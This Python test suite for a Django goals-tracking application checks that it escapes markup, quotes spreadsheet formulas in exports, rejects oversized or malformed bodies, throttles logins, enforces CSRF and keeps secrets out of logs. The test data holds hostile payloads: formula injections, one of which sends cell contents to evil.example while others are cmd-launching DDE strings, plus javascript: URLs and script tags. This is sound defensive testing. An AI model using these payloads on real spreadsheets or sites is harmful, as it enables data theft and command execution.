"""Hostile input (issue 12, point 5), through Django's test client.

Markup in every user-writable text field is shown escaped on every page, in e-mails
and in the brief; spreadsheet formulas are quoted in every CSV and Excel export;
oversized, badly encoded and deeply nested bodies get a clear 4xx and write nothing;
logins are throttled; every POST form needs its CSRF token; secrets never reach a log.
The same world is opened in Chromium by tests/browser/test_escaping.py.
"""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest
from django.core import mail
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.utils.html import escape
from openpyxl import load_workbook

from headway.accounts.services import api_token_create, invitation_create
from headway.discovery.models import PurposeAnswer
from headway.goals import services as goals
from headway.goals.models import CheckIn, KeyResult, Objective
from headway.lib.csvsafe import FORMULA_STARTS, PLAIN_NUMBER
from headway.notify.delivery import render_email
from headway.notify.messages import reminder_content
from headway.notify.models import NotificationKind
from headway.notify.services import chat_channel_create
from headway.notify.webhooks import webhook_create
from headway.transfer.models import ImportJob
from tests.conftest import api_client, logged_in
from tests.factories import PASSWORD
from tests.okrs import build as build_okrs

from .hostile import EXCLUDED, FIELDS, PAYLOADS, Hostile, build, tagged, text_fields
from .routes import fill, web_routes

# Fields no page shows in full, each with the page that shows it otherwise.
NOT_ON_ANY_PAGE: dict[str, str] = {}


def test_every_text_field_is_covered_or_excluded(db: None) -> None:
    found = set(text_fields())
    unknown = found - set(FIELDS) - set(EXCLUDED)
    assert not unknown, f"new text fields: add them to hostile.FIELDS or EXCLUDED: {unknown}"
    assert not (set(FIELDS) | set(EXCLUDED)) - found, "stale entries in hostile.py"
    assert not set(FIELDS) & set(EXCLUDED)


# --- markup on pages ---------------------------------------------------------------------


def crawl(hostile: Hostile, client: Client) -> Iterator[tuple[str, Any]]:
    """Every web route the URL configuration has, filled with the hostile world's ids."""
    for route in web_routes():
        path = fill(route, hostile.ids, None)
        yield path, client.get(path)


def body(response: Any) -> str:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content).decode(errors="replace")
    return response.content.decode(errors="replace")


def _page_payloads() -> list[str]:
    """Every payload on SQLite; on PostgreSQL the first (its text round trip). Escaping
    is the templates' work, the same on either database, and the cross product of
    payloads and pages is the suite's costliest check."""
    names = list(PAYLOADS)
    return names if connection.vendor == "sqlite" else names[:1]


@pytest.mark.parametrize("name", _page_payloads())
def test_markup_in_every_text_field_is_shown_escaped_on_every_page(db: None, name: str) -> None:
    payload = PAYLOADS[name]
    hostile = build(tagged(payload))
    pages = requests = 0
    shown: set[str] = set()
    for client in (logged_in(hostile.world.alice), Client()):
        for path, response in crawl(hostile, client):
            requests += 1
            assert response.status_code < 500, path
            kind = response.get("Content-Type", "")
            if not kind.startswith(("text/html", "text/markdown", "text/plain")):
                continue
            text = body(response)
            pages += 1
            assert payload not in text, f"{path} prints {name} unescaped"
            shown |= {key for key, value in hostile.values.items() if escape(value) in text}
    print(f"\n{name}: {len(FIELDS)} fields, {requests} requests, {pages} text pages checked")
    assert pages > 100
    missing = set(FIELDS) - shown - set(NOT_ON_ANY_PAGE)
    assert not missing, f"no page shows these fields as text: {sorted(missing)}"


def test_it_refuses_javascript_urls(world) -> None:  # type: ignore[no-untyped-def]
    from django.core.exceptions import ValidationError

    for url in ("javascript:window.__pwned=1", "JaVaScRiPt:alert(1)", "data:text/html,<b>"):
        with pytest.raises(ValidationError):
            webhook_create(member=world.alice, url=url)
        with pytest.raises(ValidationError):
            chat_channel_create(member=world.alice, team=world.platform, name="x", url=url)


def test_it_refuses_markup_as_an_email(world) -> None:  # type: ignore[no-untyped-def]
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        invitation_create(member=world.alice, email='"><script>x</script>@acme.test')


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_e_mails_escape_markup_in_their_html(db: None, name: str) -> None:
    payload = PAYLOADS[name]
    hostile = build(lambda key: payload if len(payload) <= 120 else "x")
    alice = hostile.world.alice
    mail.outbox.clear()
    invitation_create(member=alice, email="someone@else.test")
    reminder = render_email(
        hostile.world.bob,
        NotificationKind.REMINDER,
        reminder_content(hostile.world.bob, list(KeyResult.objects.all()), dt_today()),
    )
    for message in [*mail.outbox, reminder]:
        html = dict((kind, content) for content, kind in message.alternatives)["text/html"]
        assert payload not in html
        assert escape(payload) in html


def dt_today() -> Any:
    from django.utils import timezone

    return timezone.localdate()


def test_the_markdown_brief_escapes_markup(db: None) -> None:
    payload = PAYLOADS["script"]
    hostile = build(lambda key: payload)
    client = logged_in(hostile.world.alice)
    brief = client.get(f"/o/acme/rollout/brief.md?leader={hostile.ids['member_id']}")
    assert brief.status_code == 200
    text = body(brief)
    assert payload not in text
    # Markdown's own escapes: a viewer shows the characters instead of reading a tag.
    assert r"\<script\>window.\_\_pwned=1\</script\>" in text


# --- formulas in exports -----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_for(key: str) -> str:
    return FORMULAS[sorted(FIELDS).index(key) % len(FORMULAS)][:20]


def assert_no_formula_cell(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)), (
                f"{where}: a spreadsheet would run {cell!r}"
            )


def csv_rows(content: bytes) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


EXPORTS = ["objectives", "key-results", "check-ins", "flags", "learning"]


def test_no_export_cell_starts_a_formula(db: None) -> None:
    hostile = build(formula_for)
    # Check-in notes keep their leading tab and return: the service keeps notes as typed.
    goals.checkin_create(
        member=hostile.world.bob,
        key_result_id=hostile.ids["key_result_id"],
        value=30,
        confidence=5,
        note="\t=1+1",
        blockers="\r=2+2",
    )
    client = logged_in(hostile.world.alice)
    quoted = 0
    for name in EXPORTS:
        response = client.get(f"/o/acme/exports/{name}.csv")
        assert response.status_code == 200, name
        rows = csv_rows(b"".join(response.streaming_content))
        assert_no_formula_cell(rows, f"{name}.csv")
        quoted += sum(cell.startswith("'") for row in rows for cell in row)

        response = client.get(f"/o/acme/exports/{name}.xlsx")
        assert response.status_code == 200, name
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}.xlsx {cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, f"{name}.xlsx {cell.coordinate}"
                    quoted += 1
    assert quoted >= 10, "the formulas reached the exports"


def test_the_survey_report_and_import_problems_quote_formulas(db: None) -> None:
    hostile = build(formula_for)
    alice = hostile.world.alice
    PurposeAnswer.objects.update(text='=HYPERLINK("https://evil.example")')
    client = logged_in(alice)
    report = client.get(f"/o/acme/surveys/{hostile.ids['survey_id']}/report.csv")
    assert report.status_code == 200
    rows = csv_rows(report.content)
    assert_no_formula_cell(rows, "report.csv")
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)

    from tests.transfer.importing import checked, csv_bytes, objective

    job = checked(alice, csv_bytes([objective("o1", "x", cycle="=cmd|' /C calc'!A0")]))
    problems = client.get(f"/o/acme/import/{job.pk}/problems.csv")
    assert problems.status_code == 200
    assert_no_formula_cell(csv_rows(problems.content), "problems.csv")


# --- bodies ------------------------------------------------------------------------------

MB = 1024 * 1024


def test_an_oversized_api_body_is_refused_with_413_and_a_message(world) -> None:  # type: ignore[no-untyped-def]
    client = api_client(world.bob)
    response = client.post(
        "/api/v1/objectives", json.dumps({"title": "x" * (3 * MB)}), content_type="application/json"
    )
    assert response.status_code == 413
    assert response["Content-Type"] == "application/problem+json"
    problem = response.json()
    assert problem["status"] == 413
    assert "2.5 MB" in problem["detail"]
    assert not Objective.objects.exists()


def test_an_oversized_form_is_refused_with_413_and_a_message(world) -> None:  # type: ignore[no-untyped-def]
    response = logged_in(world.bob).post(
        "/o/acme/objectives/new/",
        b"title=" + b"x" * (3 * MB),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 413
    assert "too large" in response.content.decode()
    assert not Objective.objects.exists()


def upload(size: int) -> io.BytesIO:
    file = io.BytesIO(b"title\n" + b"x" * size)
    file.name = "big.csv"
    return file


def test_an_oversized_import_upload_is_refused_with_413(world) -> None:  # type: ignore[no-untyped-def]
    web = logged_in(world.alice).post("/o/acme/import/", {"file": upload(21 * MB)})
    assert web.status_code == 413
    assert "20 MB" in web.content.decode()
    api = api_client(world.alice).post("/api/v1/imports", {"file": upload(21 * MB)})
    assert api.status_code == 413
    assert "20 MB" in api.json()["detail"]
    assert not ImportJob.objects.exists()


def test_an_upload_under_the_limit_is_not_refused_by_the_body_limit(world) -> None:  # type: ignore[no-untyped-def]
    response = api_client(world.alice).post("/api/v1/imports", {"file": upload(3 * MB)})
    assert response.status_code != 413


def test_too_many_form_fields_are_refused_with_a_message(world) -> None:  # type: ignore[no-untyped-def]
    response = logged_in(world.bob).post(
        "/o/acme/objectives/new/",
        "&".join(f"f{i}=1" for i in range(2000)),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 400
    assert "fields" in response.content.decode()


def test_invalid_utf8_in_a_json_body_is_a_400(world) -> None:  # type: ignore[no-untyped-def]
    response = api_client(world.bob).post(
        "/api/v1/objectives", b'{"title": "\xff\xfe"}', content_type="application/json"
    )
    assert response.status_code == 400
    assert "UTF-8" in response.json()["detail"]
    assert not Objective.objects.exists()


def test_invalid_utf8_in_a_form_is_a_400(world) -> None:  # type: ignore[no-untyped-def]
    okrs = build_okrs(world)
    kr = okrs.deploys
    before = CheckIn.objects.count()
    response = logged_in(world.bob).post(
        "/o/acme/check-in/",
        f"key_result={kr.pk}&value=5&confidence=5&note=%ff%fe".encode(),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 400
    assert "UTF-8" in response.content.decode()
    assert CheckIn.objects.count() == before


@pytest.mark.parametrize(
    "raw",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"title":' * 100_000 + b"1" + b"}" * 100_000,
    ],
    ids=["arrays", "objects"],
)
def test_deeply_nested_json_is_a_400(world, raw: bytes) -> None:  # type: ignore[no-untyped-def]
    response = api_client(world.bob).post(
        "/api/v1/objectives", raw, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json()["detail"]
    assert not Objective.objects.exists()


def test_huge_numbers_and_strings_are_refused_with_a_message(world) -> None:  # type: ignore[no-untyped-def]
    okrs = build_okrs(world)
    client = api_client(world.bob)
    url = f"/api/v1/key-results/{okrs.deploys.pk}/check-ins"
    before = CheckIn.objects.count()
    for value in ["1" + "0" * 5000, "1e999", "1e308", "-1.7e308", str(10**400)]:
        response = client.post(
            url, f'{{"value": {value}, "confidence": 5}}', content_type="application/json"
        )
        assert 400 <= response.status_code < 500, value
        assert response.json()["detail"], value
    long_title = client.post(
        "/api/v1/objectives",
        json.dumps({"title": "x" * 2_000_000, "cycle_id": okrs.quarter.pk}),
        content_type="application/json",
    )
    assert long_title.status_code == 422
    assert "200 characters" in long_title.json()["errors"][0]["message"]
    assert CheckIn.objects.count() == before
    page = logged_in(world.bob).get(f"/o/acme/objectives/{okrs.platform.pk}/")
    assert page.status_code == 200


def test_the_largest_accepted_value_still_renders(world) -> None:  # type: ignore[no-untyped-def]
    okrs = build_okrs(world)
    client = api_client(world.bob)
    url = f"/api/v1/key-results/{okrs.deploys.pk}/check-ins"
    for value in (1e15, -1e15):
        response = client.post(
            url, json.dumps({"value": value, "confidence": 5}), content_type="application/json"
        )
        assert response.status_code == 201
    assert logged_in(world.bob).get(f"/o/acme/objectives/{okrs.platform.pk}/").status_code == 200


# --- login throttling --------------------------------------------------------------------


def attempt(client: Client, password: str) -> Any:
    return client.post("/login/", {"username": "bob@acme.test", "password": password})


def test_five_failed_logins_lock_the_account_with_a_message(world, settings) -> None:  # type: ignore[no-untyped-def]
    assert settings.AXES_ENABLED and settings.AXES_FAILURE_LIMIT == 5
    client = Client()
    for _ in range(4):
        assert attempt(client, "wrong").status_code == 200  # the form again, with its error
    locked = attempt(client, "wrong")
    assert locked.status_code == 429
    assert "Too many failed" in locked.content.decode() or "locked" in locked.content.decode()
    # The right password is refused too while locked.
    assert attempt(client, PASSWORD).status_code == 429
    assert "_auth_user_id" not in client.session

    call_command("axes_reset_username", "bob@acme.test")
    assert attempt(client, PASSWORD).status_code == 302


def test_the_lock_lifts_after_the_cool_off(world) -> None:  # type: ignore[no-untyped-def]
    import datetime as dt

    from axes.models import AccessAttempt

    client = Client()
    for _ in range(5):
        attempt(client, "wrong")
    assert attempt(client, PASSWORD).status_code == 429
    AccessAttempt.objects.update(attempt_time=dt.datetime.now(dt.UTC) - dt.timedelta(hours=2))
    assert attempt(client, PASSWORD).status_code == 302


def test_a_success_resets_the_count(world) -> None:  # type: ignore[no-untyped-def]
    for _ in range(4):
        attempt(Client(), "wrong")
    assert attempt(Client(), PASSWORD).status_code == 302
    for _ in range(4):
        assert attempt(Client(), "wrong").status_code == 200
    assert attempt(Client(), PASSWORD).status_code == 302


# --- CSRF --------------------------------------------------------------------------------

# The only POST without a CSRF token, on purpose: see headway/web/views/notify.py.
CSRF_EXEMPT = {"notify-unsubscribe": "RFC 8058 one-click unsubscribe; the link is signed"}


def test_every_web_post_needs_a_csrf_token(db: None) -> None:
    hostile = build(lambda key: "plain")
    refused = 0
    for persona in (hostile.world.alice, None):
        client = Client(enforce_csrf_checks=True)
        if persona is not None:
            client.force_login(persona.user)
        client.get("/login/")  # a CSRF cookie, but no token in the form
        for route in web_routes():
            if route.key in CSRF_EXEMPT:
                continue
            response = client.post(fill(route, hostile.ids, None), {"title": "x"})
            assert response.status_code == 403, route.key
            assert "CSRF" in response.content.decode(), route.key
            refused += 1
    assert refused > 200


def test_the_api_refuses_a_session_write_without_a_csrf_token(world) -> None:  # type: ignore[no-untyped-def]
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.alice.user)
    response = client.post("/api/v1/teams", {"name": "Sneaky"}, content_type="application/json")
    assert response.status_code == 403
    from headway.teams.models import Team

    assert not Team.objects.filter(name="Sneaky").exists()


# --- secrets in logs ---------------------------------------------------------------------


class Everything(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))
        if record.exc_info:
            self.lines.append(logging.Formatter().formatException(record.exc_info))
        self.lines.append(repr(getattr(record, "request", "")))


@pytest.fixture
def every_log_line() -> Iterator[Everything]:
    """Every record logged with HEADWAY_LOG_LEVEL=DEBUG: the root logger at DEBUG, the
    loggers settings.LOGGING and Django configure keeping their own levels."""
    handler = Everything()
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield handler
    root.removeHandler(handler)
    root.setLevel(level)


def test_secrets_never_reach_a_log(world, every_log_line: Everything) -> None:  # type: ignore[no-untyped-def]
    from django.contrib.auth.tokens import default_token_generator
    from django.utils.encoding import force_bytes
    from django.utils.http import urlsafe_base64_encode

    secrets: list[str] = [PASSWORD]
    web = Client()
    assert attempt(web, PASSWORD).status_code == 302
    attempt(Client(), "a wrong but secret password")
    secrets.append("a wrong but secret password")

    _, raw = api_token_create(member=world.alice, name="ci")
    secrets.append(raw)
    api = Client(headers={"Authorization": f"Bearer {raw}"})
    assert api.get("/api/v1/me").status_code == 200
    assert Client(headers={"Authorization": f"Bearer {raw}x"}).get("/api/v1/me").status_code == 401

    created = logged_in(world.alice).post("/o/acme/settings/webhooks/", {
        "url": "https://hooks.example.com/h", "description": "d", "events": ["checkin.created"],
    })  # fmt: skip
    assert created.status_code in (200, 302)
    from headway.notify.models import Webhook

    secrets.append(Webhook.objects.get().secret)

    chat_secret = "s3cr3t-chat-pass"
    channel = chat_channel_create(
        member=world.alice,
        team=world.platform,
        name="#ops",
        url=f"json://user:{chat_secret}@127.0.0.1:9/hook",
    )
    secrets.append(chat_secret)
    logged_in(world.alice).post(f"/o/acme/teams/platform/chat/{channel.pk}/test/")

    mail.outbox.clear()
    Client().post("/password/reset/", {"email": "alice@acme.test"})
    reset_token = default_token_generator.make_token(world.alice.user)
    uid = urlsafe_base64_encode(force_bytes(world.alice.user.pk))
    secrets.append(reset_token)
    Client().get(f"/password/reset/{uid}/{reset_token}/")
    Client().get(f"/password/reset/{uid}/{reset_token}x/")  # a broken link: logged as a 4xx?

    _, invitation_token = invitation_create(member=world.alice, email="n@acme.test")
    secrets.append(invitation_token)
    Client().get(f"/invitations/{invitation_token}/")
    Client().get(f"/invitations/{invitation_token[:-2]}zz/")

    text = "\n".join(every_log_line.lines)
    assert every_log_line.lines, "the handler saw the logs"
    for secret in secrets:
        leaks = [line[:300] for line in every_log_line.lines if secret in line]
        assert not leaks, leaks
        assert secret not in text, f"a secret reached the log: {secret[:6]}…"
